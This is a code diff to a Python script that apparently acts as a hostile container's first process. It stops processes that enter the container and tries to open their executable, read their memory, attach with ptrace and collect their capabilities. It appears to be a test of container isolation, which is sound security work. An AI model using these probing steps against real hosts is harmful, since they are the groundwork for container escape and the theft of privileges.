@@ -29,6 +29,8 @@ def tell(what, action):
     except OSError as error:
         if error.errno not in (errno.EACCES, errno.EPERM, errno.ENOENT, errno.ESRCH):
             report.write(f"{what} {error!r}\\n")
+    except ValueError as error:  # it was read, even if it is no text
+        report.write(f"{what} {error!r}\\n")
 def attach(pid):
     if libc.ptrace(16, pid, 0, 0):
         raise OSError(ctypes.get_errno(), "ptrace")
@@ -53,15 +55,19 @@ while not os.path.exists("/tmp/enough"):
             os.kill(pid, signal.SIGSTOP)
             while (state := open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[0]) not in "TZX":
                 pass
-            command = open(f"/proc/{pid}/cmdline").read()
-        except OSError:
+            command = open(f"/proc/{pid}/cmdline", errors="replace").read()
+        except (OSError, LookupError, ValueError):
             continue
-        if state != "T" or command.startswith("sleep"):  # it has become the program
-            os.kill(pid, signal.SIGCONT)
-            seen.add(pid)
+        # It may end at any moment; the attacker is the container's first process and must outlive that.
+        try:
+            if state != "T" or command.startswith("sleep"):  # it has become the program
+                seen.add(pid)
+                os.kill(pid, signal.SIGCONT)
+                continue
+            rights |= int(next(l for l in open(f"/proc/{pid}/status") if l.startswith("CapPrm")).split()[1], 16)
+        except (OSError, LookupError, ValueError, StopIteration):
             continue
         caught += 1
-        rights |= int(next(l for l in open(f"/proc/{pid}/status") if l.startswith("CapPrm")).split()[1], 16)
         tell("exe", lambda: os.readlink(f"/proc/{pid}/exe"))
         tell("open exe", lambda: os.open(f"/proc/{pid}/exe", os.O_RDONLY))
         tell("cwd", lambda: os.listdir(f"/proc/{pid}/cwd/"))
@@ -76,7 +82,10 @@ while not os.path.exists("/tmp/enough"):
         tell("namespace", lambda: os.readlink(f"/proc/{pid}/ns/mnt"))
         tell("ptrace", lambda: attach(pid))
         tell("vm_read", lambda: vm_read(pid))
-        os.kill(pid, signal.SIGCONT)
+        try:
+            os.kill(pid, signal.SIGCONT)
+        except OSError:
+            pass
 report.write(f"rights {rights:x}\\n")
 report.write(f"caught {caught}\\n")
 report.close()
